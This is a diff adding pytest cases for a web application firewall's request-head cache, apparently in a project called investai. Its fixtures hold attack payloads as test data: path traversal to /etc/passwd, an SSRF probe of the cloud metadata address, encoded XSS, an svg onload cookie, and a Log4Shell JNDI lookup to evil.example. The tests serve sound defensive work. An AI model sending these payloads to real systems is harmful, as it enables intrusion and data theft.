@@ -15,6 +15,7 @@ from fastapi.testclient import TestClient
 from fastapi_offline import FastAPIOffline
 from starlette.types import ASGIApp, Receive, Scope, Send
 
+from investai.api.middleware import waf_rules
 from investai.api.middleware.client_ip import client_ip, parse_ip, parse_networks
 from investai.api.middleware.edge import add_edge_protection
 from investai.api.middleware.waf_rules import (
@@ -527,6 +528,48 @@ def _head(path: str = "/", query: str = "", **headers: str) -> RequestHead:
 def test_literal_dot_segments_are_caught_even_when_no_client_normalises_them() -> None:
     assert first_head_match(_head("/api/v1/items/../../etc/passwd"), WafConfig()) == "GenericLFI_URIPATH"
     assert first_head_match(_head("/static/..;/WEB-INF/web.xml"), WafConfig()) == "ExploitablePaths_URIPATH"
+
+
+HEAD_CASES = [
+    _head("/api/v1/items/../../etc/passwd"),
+    _head("/api/v1/ideas", "next=http://169.254.169.254/latest/meta-data/"),
+    _head("/api/v1/ideas", "q=%253Cscript%253Ealert(1)%253C/script%253E"),
+    _head("/api/v1/ideas", **{"x-api-version": "${jndi:ldap://evil.example/a}"}),
+    _head("/api/v1/ideas", cookie="session=<svg onload=alert(1)>"),
+    _head("/api/v1/ideas", "sort=-created_at&limit=20"),
+    _head("/api/v1/ideas", authorization="Bearer aaa.bbb.ccc"),
+    _head("/backup.sql"),
+]
+
+
+@pytest.mark.parametrize("head", HEAD_CASES, ids=lambda head: f"{head.path}?{head.query_string}"[:60])
+def test_remembered_verdicts_equal_fresh_ones(head: RequestHead) -> None:
+    """The head verdict comes from a cache keyed by what the content rules read; it must equal evaluating
+    every rule afresh, on the first request and on a repeat, and for heads too large to be remembered."""
+    fresh = next((rule.name for rule in waf_rules.HEAD_RULES if rule.matches(head, WafConfig())), None)
+    assert first_head_match(head, WafConfig()) == fresh
+    assert first_head_match(head, WafConfig()) == fresh  # served from the cache
+    padded = RequestHead(
+        head.method, head.path, head.query_string, (*head.headers, ("x-pad", "a" * 5000)), head.client_ip
+    )
+    assert first_head_match(padded, WafConfig()) == fresh  # too large to remember: evaluated each time
+
+
+def test_a_remembered_clean_verdict_does_not_hide_the_client_or_configuration_rules() -> None:
+    """The cache covers only the content rules; the block list, methods and sizes are checked every time."""
+    head = _head("/api/v1/ideas")
+    assert first_head_match(head, WafConfig()) is None
+    blocked = WafConfig(ip_blocklist=tuple(parse_networks(["203.0.113.0/24"])))
+    assert first_head_match(head, blocked) == "IPBlockList"
+    propfind = RequestHead("PROPFIND", head.path, head.query_string, head.headers, head.client_ip)
+    assert first_head_match(propfind, WafConfig()) == "PROPFIND_METHOD"
+
+
+def test_a_bearer_token_does_not_split_the_cache_but_other_headers_do() -> None:
+    first = _head("/api/v1/ideas", authorization="Bearer aaa.bbb.ccc")
+    second = _head("/api/v1/ideas", authorization="Bearer ddd.eee.fff")
+    assert waf_rules._content_key(first) == waf_rules._content_key(second)
+    assert waf_rules._content_key(_head("/x", accept="a")) != waf_rules._content_key(_head("/x", accept="b"))
 
 
 def test_decoding_stops_after_three_rounds() -> None:
